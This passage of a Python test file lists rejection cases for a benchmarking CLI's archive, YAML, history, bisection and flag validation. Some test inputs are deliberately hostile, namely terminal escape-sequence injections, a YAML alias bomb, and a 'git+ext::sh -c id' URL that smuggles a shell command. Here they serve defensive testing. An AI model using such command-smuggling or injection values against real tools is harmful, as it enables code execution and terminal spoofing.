            manifest=_manifest_doc().replace(b'"size": 500', b'"size": 5'),
        ),
        "declares 500 bytes, arc/manifest.json says 5",
        "ArchiveError",
    ),
    Case(
        "tar-manifest-not-object",
        "archive-tar",
        _tar(_GOOD_TAR_MEMBERS, manifest=b"[]"),
        "expected a JSON object",
        "ArchiveError",
    ),
    Case(
        "tar-manifest-raw-pydantic",
        "archive-tar",
        _tar(_GOOD_TAR_MEMBERS, manifest=_manifest_doc(images="x")),
        "at 'images':",
        "ArchiveError",
    ),
    # Control characters in an import's setup: refused by key (issue 23, kind 3).
    *[
        Case(
            f"setup-control-{i}",
            "setup-bytes",
            f'cpu_model: "{value}"\ncores: 2\n'.encode(),
            "cpu_model: ",
        )
        for i, value in enumerate(["\\e]0;pwned\\a", "\\e[2J", "x\\x7f", "\\u202egcc", "a\\x85b"])
    ],
    Case(
        "setup-control-package",
        "setup-bytes",
        b'cpu_model: c\ncores: 2\npackages: {libsodium: "1\\e[31m"}\n',
        "packages.libsodium: ",
    ),
    # YAML merge keys work; what they cannot hold is named (issue 23, kind 7).
    Case(
        "matrix-merge-scalar",
        "matrix-bytes",
        GOOD_MATRIX.replace("profile: slim}", "profile: slim, <<: 5}", 1).encode(),
        "expected a mapping or list of mappings for merging",
    ),
    Case(
        "matrix-merge-dup",
        "matrix-bytes",
        GOOD_MATRIX.replace(
            "profile: slim}", "profile: slim, <<: {cpuset: '0'}, base: deb}", 1
        ).encode(),
        "duplicate key 'base'",
    ),
    Case(
        "matrix-merge-unknown-key",
        "matrix-bytes",
        GOOD_MATRIX.replace("profile: slim}", "profile: slim, <<: {colour: red}}", 1).encode(),
        "colour",
    ),
    Case(
        "matrix-merge-bomb",
        "matrix-bytes",
        ALIAS_BOMB.replace(b"version: 1", b"x: {<<: {k: *a8}}\nversion: 1"),
        "expanded",
    ),
    Case("matrix-tab-not-comment", "matrix-bytes", b"version: 1\tone\n", "line 1, column 11"),
    # Empty path settings mean the project root: refused (issue 23, kind 2).
    *[
        Case(f"settings-empty-{key}", "settings", {key: value}, f"'archbench.{key}'", "MatrixError")
        for key in ("results", "reports", "matrix", "work")
        for value in ("", None, " ")
    ],
    Case("settings-not-a-mapping", "settings", ["results"], "archbench:", "MatrixError"),
    Case("settings-string", "settings", "results", "archbench:", "MatrixError"),
    Case(
        "settings-path-list", "settings", {"results": ["a"]}, "'archbench.results'", "MatrixError"
    ),
]
CASES += ISSUE_23_CASES


# --- issue 32: every refused flag exits 2, its value cut; paths no file system takes ----
LONG_NAME = "/tmp/" + "n" * 300
ISSUE_32_CASES: list[Case] = [
    Case(
        "compare-fail-above-text",
        "flag",
        ("compare", {"run_a": "a", "run_b": "b", "fail_above": "x" * 100_000}),
        "--fail-above 'xxxx",
        "ReportUsageError",
    ),
    Case(
        "compare-threshold-huge",
        "flag",
        ("compare", {"run_a": "a", "run_b": "b", "threshold": "9" * 100_000}),
        "(100000 chars): give a fraction",
        "ReportUsageError",
    ),
    Case(
        "history-fail-above-low",
        "flag",
        ("history", {"gnunet": "a,b", "fail_above": "0.5"}),
        "--fail-above '0.5': give a ratio",
        "ReportUsageError",
    ),
    Case(
        "report-results-long-name",
        "flag",
        ("report", {"results": LONG_NAME}),
        "has a name longer than 255 bytes",
    ),
    Case("report-out-nul", "flag", ("report", {"out": "a\x00b"}), "holds a NUL byte"),
    Case(
        "compare-results-long-name",
        "flag",
        ("compare", {"run_a": "a", "run_b": "b", "results": LONG_NAME}),
        "--results: ",
    ),
    Case("bench-matrix-long-name", "flag", ("bench", {"matrix": LONG_NAME}), "--matrix: "),
    Case(
        "bench-archive-long-name", "flag", ("bench", {"from_archive": LONG_NAME}), "--from-archive"
    ),
    Case(
        "archive-run-id-long",
        "flag",
        ("archive", {"run_id": "r" * 5000}),
        "(5000 chars) is not a run id",
    ),
    Case("archive-out-long", "flag", ("archive", {"run_id": "r1", "out": LONG_NAME}), "--out: "),
    Case("bench-arch-long", "flag", ("bench", {"arch": "v" * 5000}), "unknown architecture 'vvv"),
    Case("bench-metric-long", "flag", ("bench", {"metric": "m" * 5000}), "(5000 chars)"),
    Case("clean-host-long", "flag", ("clean", {"host": "h" * 5000}), "(5000 chars)"),
    Case(
        "report-style-long",
        "flag",
        ("report", {"style": "s" * 5000}),
        "(5000 chars) is not one of",
        "ReportUsageError",
    ),
    Case(
        "report-label-long",
        "flag",
        ("report", {"label_prefix": "l" * 5000}),
        "(5000 chars) is not allowed",
        "ReportUsageError",
    ),
    Case(
        "import-target-long",
        "flag",
        ("import_", {"logs": "x.log", "target": "T" * 5000, "arch": "amd64"}),
        "--target 'TTTT",
    ),
    Case(
        "import-logs-long-name",
        "flag",
        ("import_", {"logs": LONG_NAME, "target": "t", "arch": "amd64"}),
        "LOGS: ",
    ),
]
CASES += ISSUE_32_CASES


def _image_doc(n: int, file: str = "images/x.tar", targets: tuple[str, ...] = ("t",)) -> Any:
    return {
        "id": f"sha256:{n:064x}",
        "tag": "archbench/x:1",
        "arch": "amd64",
        "platform": "linux/amd64",
        "host": "local",
        "file": file,
        "targets": list(targets),
    }


# --- issue 32: an archive's manifest validated as a whole (one run, every reference there) --
ARCHIVE_MANIFEST_CASES: list[Case] = [
    Case(
        "archive-second-run",
        "archive-tar",
        _tar([*_GOOD_TAR_MEMBERS, ("results/r2/t.json", b"{}")]),
        "results of run(s) 'r2' beside run r1; an archive holds one run",
        "ArchiveError",
    ),
    Case(
        "archive-run-manifest-of-another-run",
        "archive-tar",
        _tar(
            [*_GOOD_TAR_MEMBERS, ("results/r2/run.json", b"{}")],
            manifest=_manifest_doc(run_manifest="results/r2/run.json"),
        ),
        "'results/r2/run.json' is not the run manifest of run r1 (results/r1/run.json)",
        "ArchiveError",
    ),
    Case(
        "archive-images-missing",
        "archive-tar",
        _tar(
            _GOOD_TAR_MEMBERS,
            manifest=_manifest_doc(
                images=[_image_doc(1, "images/gone.tar"), _image_doc(2, "images/lost.tar", ("u",))]
            ),
        ),
        "referred to but not listed in 'files': 'images/gone.tar', 'images/lost.tar'",
        "ArchiveError",
    ),
    Case(
        "archive-image-id-twice",
        "archive-tar",
        _tar(
            _GOOD_TAR_MEMBERS,
            manifest=_manifest_doc(images=[_image_doc(1), _image_doc(1, targets=("u",))]),
        ),
        "images: listed twice: 'sha256:000",
        "ArchiveError",
    ),
    Case(
        "archive-one-file-two-images",
        "archive-tar",
        _tar(
            _GOOD_TAR_MEMBERS,
            manifest=_manifest_doc(images=[_image_doc(1), _image_doc(2, targets=("u",))]),
        ),
        "images: one file for two images: 'images/x.tar'",
        "ArchiveError",
    ),
    Case(
        "archive-run-manifest-as-image",
        "archive-tar",
        _tar(
            _GOOD_TAR_MEMBERS,
            manifest=_manifest_doc(images=[_image_doc(1, "results/r1/run.json")]),
        ),
        "is the run manifest, no image",
        "ArchiveError",
    ),
    Case(
        "archive-target-twice",
        "archive-tar",
        _tar(
            [*_GOOD_TAR_MEMBERS, ("images/y.tar", b"y")],
            manifest=_manifest_doc(
                images=[_image_doc(1), _image_doc(2, "images/y.tar")],
                files=[
                    *json.loads(_tar_members_manifest())["files"],
                    {"path": "images/y.tar", "size": 1, "sha256": hashlib.sha256(b"y").hexdigest()},
                ],
            ),
        ),
        "target 't' is listed under two images",
        "ArchiveError",
    ),
    Case(
        "archive-target-without-results",
        "archive-tar",
        _tar(
            _GOOD_TAR_MEMBERS,
            manifest=_manifest_doc(images=[_image_doc(1, targets=("t", "u", "v"))]),
        ),
        "target(s) 'u', 'v' ran in an image but have no results",
        "ArchiveError",
    ),
    Case(
        "archive-many-missing-cut",
        "archive-tar",
        _tar(
            _GOOD_TAR_MEMBERS,
            manifest=_manifest_doc(
                images=[_image_doc(i, f"images/{i}.tar", (f"t{i}",)) for i in range(1, 40)]
            ),
        ),
        "'images/10.tar' and 29 more",
        "ArchiveError",
    ),
]
CASES += ARCHIVE_MANIFEST_CASES


def _history(**over: Any) -> bytes:
    """A history of two versions (runs r1, r2) in one session s1, round 1 run, edited."""
    doc: dict[str, Any] = {
        "format": "archbench-history",
        "version": 1,
        "history_id": "20261129T220000Z-abcdef",
        "created_at": "x",
        "matrix_file": "matrix.yml",
        "matrix_text": "version: 1",
        "targets": ["t"],
        "rounds": 2,
        "seed": 1,
        "versions": [
            {"label": "a", "gnunet": "debian", "run_id": "r1", "session": "s1"},
            {"label": "b", "gnunet": "debian", "run_id": "r2", "session": "s1"},
        ],
        "order": [{"session": "s1", "round": 1, "order": ["r2", "r1"]}],
    }
    doc.update(over)
    return json.dumps(doc).encode()


_V = {"label": "c", "gnunet": "debian", "run_id": "r3", "session": "s1"}
ISSUE_32_CASES_HISTORY: list[Case] = [
    Case(
        "history-run-twice",
        "history-bytes",
        _history(versions=[*json.loads(_history())["versions"], {**_V, "run_id": "r1"}]),
        "name the same run r1",
        "ResultsError",
    ),
    Case(
        "history-label-twice",
        "history-bytes",
        _history(versions=[*json.loads(_history())["versions"], {**_V, "label": "a"}]),
        "have one label 'a'",
        "ResultsError",
    ),
    Case(
        "history-round-of-no-session",
        "history-bytes",
        _history(order=[{"session": "s9", "round": 1, "order": ["r1", "r2"]}]),
        "session s9 measured no version",
        "ResultsError",
    ),
    Case(
        "history-round-beyond-rounds",
        "history-bytes",
        _history(order=[{"session": "s1", "round": 3, "order": ["r1", "r2"]}]),
        "but rounds is 2",
        "ResultsError",
    ),
    Case(
        "history-round-twice",
        "history-bytes",
        _history(
            order=[
                {"session": "s1", "round": 1, "order": ["r1", "r2"]},
                {"session": "s1", "round": 1, "order": ["r2", "r1"]},
            ]
        ),
        "listed twice",
        "ResultsError",
    ),
    Case(
        "history-round-misses-a-run",
        "history-bytes",
        _history(order=[{"session": "s1", "round": 1, "order": ["r1", "r1"]}]),
        "not once each of its versions' runs",
        "ResultsError",
    ),
    Case(
        "history-round-foreign-run",
        "history-bytes",
        _history(order=[{"session": "s1", "round": 1, "order": ["r1", "r2", "r7"]}]),
        "not once each",
        "ResultsError",
    ),
    Case(
        "history-other-id",
        "history-bytes",
        _history(history_id="20261129T220000Z-ffffff"),
        "the manifest says history",
        "ResultsError",
    ),
    Case("history-deep", "history-bytes", DEEP_JSON, "nested deeper", "ResultsError"),
    Case("history-latin1", "history-bytes", b'{"a": "caf\xe9"}', "not UTF-8", "ResultsError"),
]
CASES += ISSUE_32_CASES_HISTORY


# --- issue 32: YAML's booleans and numbers where text is meant ---------------------------
ISSUE_32_CASES_YAML: list[Case] = [
    Case(
        "matrix-target-name-on",
        "matrix-bytes",
        GOOD_MATRIX.replace("name: amd64-trixie", "name: on").encode(),
        "YAML reads an unquoted on, yes, y or true as true; write the text in quotes",
    ),
    Case(
        "matrix-target-name-no",
        "matrix-bytes",
        GOOD_MATRIX.replace("name: amd64-trixie", "name: no").encode(),
        "off, no, n or false as false",
    ),
    Case(
        "matrix-suite-number",
        "matrix-bytes",
        GOOD_MATRIX.replace("suite: trixie", "suite: 13").encode(),
        "write it in quotes, e.g. '13'",
    ),
]
CASES += ISSUE_32_CASES_YAML


# --- issue 39, fourth round: bisection refs and records, resumes, secrets ----------------
SECRET = "S3cretPw"  # noqa: S105  # a test value, never a real one
"""The password of every URL below: it must never be printed (``test_bisect_ranges``)."""
_HEX = "0123456789abcdef" * 2 + "01234567"
_C = [(_HEX[i:] + _HEX[:i])[:40] for i in range(4)]


def _bisect(**over: Any) -> bytes:
    """A bisection of three commits (good, one between, bad), one step stored, edited."""
    doc: dict[str, Any] = {
        "format": "archbench-bisect",
        "version": 1,
        "bisect_id": "20261129T220000Z-abcdef",
        "created_at": "x",
        "matrix_file": "matrix.yml",
        "matrix_text": "version: 1",
        "repository": "file:///srv/gnunet.git",
        "good": "v0.26.0",
        "bad": "v0.27.0",
        "row": "CS signing",
        "scheme": "CS",
        "operation": "signing",
        "targets": {"amd64": "t"},
        "commits": [
            {"commit": _C[0], "subject": "g", "date": "d", "parent_count": 1},
            {"commit": _C[1], "parents": [0], "subject": "m", "date": "d", "parent_count": 1},
            {"commit": _C[2], "parents": [1], "subject": "b", "date": "d", "parent_count": 1},
        ],
        "steps": [
            {
                "index": 0,
                "commit": _C[0],
                "subject": "g",
                "date": "d",
                "counts": [{"arch": "amd64", "target": "t", "run_id": "r1", "instructions": 9.0}],
                "seconds": 1.0,
                "finished_at": "x",
            }
        ],
    }
    doc.update(over)
    return json.dumps(doc).encode()


def _edit(path: tuple[Any, ...], value: Any, **over: Any) -> bytes:
    doc = json.loads(_bisect(**over))
    node = doc
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value
    return json.dumps(doc).encode()


_GIT = "git+https://user:" + SECRET + "@git.example/gnunet.git"
_ZEROS = "0" * 64
ISSUE_39_CASES: list[Case] = [
    # A URL's credentials: refused, and never echoed (the message shows ***@).
    Case(
        "secret-bisect-url",
        "flag",
        ("bisect", {"gnunet": _GIT, "good": "v1", "bad": "v2", "row": "CS signing"}),
        "--gnunet: git URL 'https://***@git.example/gnunet.git' is not allowed",
    ),
    Case(
        "secret-bench-git",
        "flag",
        ("bench", {"gnunet": _GIT + "@v0.27.0"}),
        "'https://***@git.example/gnunet.git'",
    ),
    Case(
        "secret-bench-tarball",
        "flag",
        ("bench", {"gnunet": f"https://u:{SECRET}@t.example/g.tar.gz@sha256:{_ZEROS}"}),
        "'https://***@t.example/g.tar.gz'",
    ),
    Case(
        "secret-bench-taler",
        "flag",
        ("bench", {"taler": f"https://u:{SECRET}@t.example/e.tar.gz@sha256:{_ZEROS}"}),
        "'https://***@t.example/e.tar.gz'",
    ),
    Case(
        "secret-history-series",
        "flag",
        ("history", {"gnunet": f"{_GIT}@v0.26.0,{_GIT}@v0.27.0"}),
        "'https://***@git.example/gnunet.git'",
    ),
    Case(
        "secret-password-with-at",
        "flag",
        ("bench", {"gnunet": f"git+https://u:{SECRET}@x@git.example/g.git@v0.27.0"}),
        "https://***@git.example",
    ),
    Case(
        "secret-matrix-mirror",
        "matrix-bytes",
        GOOD_MATRIX.replace("http://mirror.invalid", f"http://u:{SECRET}@mirror.invalid").encode(),
        "'http://***@mirror.invalid/debian'",
    ),
    Case(
        "secret-matrix-git",
        "matrix-field",
        ("gnunet-git", f"https://u:{SECRET}@git.example/g.git"),
        "https://***@git.example/g.git",
    ),
    # Transports a bisection's repository may not use: refused naming --gnunet.
    *(
        Case(
            f"bisect-transport-{i}",
            "flag",
            ("bisect", {"gnunet": url, "good": "v1", "bad": "v2", "row": "CS signing"}),
            expect,
        )
        for i, (url, expect) in enumerate(
            [
                ("git+ssh://git@h.example/g.git", "--gnunet: git URL 'ssh://***@h.example/g.git'"),
                ("git+git://h.example/g.git", "--gnunet: git URL 'git://h.example/g.git'"),
                ("git+http://h.example/g.git", "ssh, git:// and http:// are not used"),
                ("git+ext::sh -c id", "--gnunet: git URL 'ext::sh -c id' is not allowed"),
                ("git+fd::3", "--gnunet: git URL 'fd::3' is not allowed"),
                ("git+file://relative/g.git", "--gnunet: git URL 'file://relative/g.git'"),
                ("git+https://h.example:99999/g.git", "--gnunet: git URL"),
                ("git+https://h.example/g.git?x=1", "without spaces, quotes, shell characters"),
                ("https://h.example/g.git", "give git+URL without @REF"),
            ]
        )
    ),
    # Refs: each refusal names the flag whose value it is.
    Case(
        "bisect-good-range",
        "flag",
        (
            "bisect",
            {"gnunet": "git+file:///srv/g.git", "good": "a..b", "bad": "b", "row": "CS signing"},
        ),
        "--good: ref 'a..b' is not allowed",
    ),
    Case(
        "bisect-bad-option",
        "flag",
        (
            "bisect",
            {"gnunet": "git+file:///srv/g.git", "good": "a", "bad": "--all", "row": "CS signing"},
        ),
        "--bad: ref '--all' is not allowed",
    ),
    Case(
        "bisect-bad-reflog",
        "flag",
        (
            "bisect",
            {
                "gnunet": "git+file:///srv/g.git",
                "good": "a",
                "bad": "HEAD@{1}",
                "row": "CS signing",
            },
        ),
        "--bad 'HEAD@{1}': a ref holds no '@'",
    ),
    # --resume and --extend go on as stored: other values are refused, not ignored.
    Case(
        "bisect-resume-rsa-bits",
        "flag",
        ("bisect", {"resume": "20261129T220000Z-abcdef", "rsa_bits": "4096"}),
        "--resume takes the bisection's own --rsa-bits",
    ),
    Case(
        "bisect-resume-metric",
        "flag",
        ("bisect", {"resume": "20261129T220000Z-abcdef", "metric": "time"}),
        "--resume takes the bisection's own --metric",
    ),
    Case(
        "bisect-resume-matrix",
        "flag",
        ("bisect", {"resume": "20261129T220000Z-abcdef", "matrix": "other.yml"}),
        "--resume takes the bisection's own --matrix",
    ),
    Case(
        "history-extend-target",
        "flag",
        (
            "history",
            {"extend": "20261129T220000Z-abcdef", "gnunet": "debian", "target": "amd64-trixie"},
        ),
        "--extend takes the history's own --target",
    ),
    Case(
        "history-extend-rounds",
        "flag",
        ("history", {"extend": "20261129T220000Z-abcdef", "gnunet": "debian", "rounds": "3"}),
        "--extend takes the history's own --rounds",
    ),
    Case(
        "history-extend-arch-matrix",
        "flag",
        (
            "history",
            {
                "extend": "20261129T220000Z-abcdef",
                "gnunet": "debian",
                "arch": "amd64",
                "matrix": "m.yml",
            },
        ),
        "--extend takes the history's own --arch, --matrix",
    ),
    Case(
        "report-results-is-a-file",
        "flag",
        ("report", {"results": "/dev/null"}),
        "results folder /dev/null is a file, not a folder",
        "ReportError",
    ),
    Case(
        "compare-results-is-a-file",
        "flag",
        ("compare", {"results": "/dev/null", "run_a": "a", "run_b": "b"}),
        "results folder /dev/null is a file, not a folder",
        "ReportError",
    ),
    # A local source that is not there: refused before a history is written.
    Case(
        "history-gnunet-path-missing",
        "flag",
        ("history", {"gnunet": "/nonexistent/gnunet,debian"}),
        "version 1 of the series: path /nonexistent/gnunet: no such directory",
        "SourceError",
    ),
    Case(
        "history-taler-path-missing",
        "flag",
        ("history", {"gnunet": "debian,debian", "taler": "/nonexistent/exchange"}),
        "version 1 of the series: taler path /nonexistent/exchange: no such directory",
        "SourceError",
    ),
    Case(
        "history-taler-tarball-missing",
        "flag",
        ("history", {"taler": f"/nonexistent/a.tar.gz@sha256:{_ZEROS},/nonexistent/b"}),
        "version 1 of the series: taler tarball /nonexistent/a.tar.gz: no such file",
        "SourceError",
    ),
    # bisect.json edited or put together from others: refused as a whole.
    Case(
        "bisect-step-beyond-range",
        "bisect-bytes",
        _edit(("steps", 0, "index"), 9),
        "steps[0]: commit index 9, but the range has 3",
        "ResultsError",
    ),
    Case(
        "bisect-step-other-commit",
        "bisect-bytes",
        _edit(("steps", 0, "index"), 1),
        "is not commits[1]",
        "ResultsError",
    ),
    Case(
        "bisect-parent-not-earlier",
        "bisect-bytes",
        _edit(("commits", 1, "parents"), [2]),
        "commits[1]: parent 2 is not an earlier commit",
        "ResultsError",
    ),
    Case(
        "bisect-parent-negative",
        "bisect-bytes",
        _edit(("commits", 1, "parents"), [-1]),
        "parent -1 is not an earlier commit",
        "ResultsError",
    ),
    Case(
        "bisect-count-foreign-arch",
        "bisect-bytes",
        _edit(("steps", 0, "counts", 0, "arch"), "riscv64"),
        "a count on riscv64, which this bisection does not measure",
        "ResultsError",
    ),
    Case(
        "bisect-boundary-with-parents",
        "bisect-bytes",
        _edit(("commits", 1, "boundary"), True),
        "a commit outside the range",
        "ResultsError",
    ),
    Case(
        "bisect-boundary-is-bad",
        "bisect-bytes",
        _edit(("commits", 2), {"commit": _C[2], "subject": "b", "date": "d", "boundary": True}),
        "a commit outside the range",
        "ResultsError",
    ),
    Case(
        "bisect-parent-count-differs",
        "bisect-bytes",
        _edit(("commits", 2, "parent_count"), 2),
        "commits[2]: 1 parents listed but 2 counted",
        "ResultsError",
    ),
    Case(
        "bisect-commit-not-hex",
        "bisect-bytes",
        _edit(("commits", 1, "commit"), "HEAD"),
        "at 'commits[1].commit': 'HEAD' does not have the allowed form",
        "ResultsError",
    ),
    Case(
        "bisect-other-id",
        "bisect-bytes",
        _bisect(bisect_id="20261129T220000Z-ffffff"),
        "the record says bisection",
        "ResultsError",
    ),
    Case("bisect-deep", "bisect-bytes", DEEP_JSON, "nested deeper", "ResultsError"),
    Case("bisect-latin1", "bisect-bytes", b'{"a": "caf\xe9"}', "not UTF-8", "ResultsError"),
    Case("bisect-empty", "bisect-bytes", b"", "bisect.json", "ResultsError"),
]
CASES += ISSUE_39_CASES
